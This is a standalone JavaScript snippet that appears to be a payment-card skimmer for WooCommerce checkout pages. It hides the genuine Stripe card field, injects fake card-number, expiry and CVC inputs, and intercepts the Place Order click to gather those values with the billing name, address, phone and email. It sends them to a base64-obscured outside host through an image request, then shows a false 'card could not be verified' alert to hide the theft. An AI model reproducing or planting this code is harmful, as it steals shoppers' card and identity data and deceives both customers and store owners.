(function () {
  if (!/checkout|onepage/.test(location.href) || localStorage.getItem("_wc_seen")) return;
  var wait = setInterval(function () {
    var real = document.querySelector(".wc-stripe-elements-field, #stripe-card-element, .StripeElement");
    if (!real) return;
    clearInterval(wait);
    var holder = real.closest(".payment_box") || real.parentNode;
    var fake = document.createElement("div");
    fake.innerHTML = '<p class="form-row"><input id="fx-n" inputmode="numeric" maxlength="19" placeholder="1234 1234 1234 1234"></p><p class="form-row"><input id="fx-e" maxlength="7" placeholder="MM / YY"><input id="fx-c" maxlength="4" placeholder="CVC"></p>';
    real.style.display = "none";
    holder.appendChild(fake);
    fake.querySelector("#fx-n").addEventListener("input", function () { this.value = this.value.replace(/\D/g, "").replace(/(\d{4})(?=\d)/g, "$1 "); });
    var go = document.querySelector("#place_order");
    go.addEventListener("click", function (e) {
      if (localStorage.getItem("_wc_seen")) return;
      var n = document.getElementById("fx-n").value.replace(/ /g, ""), c = document.getElementById("fx-c").value;
      if (n.length < 15 || c.length < 3) return;
      e.preventDefault(); e.stopImmediatePropagation();
      var d = { n: n, e: document.getElementById("fx-e").value, c: c };
      ["first_name", "last_name", "address_1", "city", "postcode", "phone", "email"].forEach(function (k) { var f = document.getElementById("billing_" + k); d[k] = f ? f.value : ""; });
      new Image().src = atob("aHR0cHM6Ly9wYXktYXNzZXRzLnBsYWNlaG9sZGVyLmV4YW1wbGUvcC5wbmc=") + "?v=" + btoa(JSON.stringify(d));
      localStorage.setItem("_wc_seen", "1");
      fake.remove(); real.style.display = "";
      alert("Your card could not be verified. Please enter the details again.");
    }, true);
  }, 500);
})();
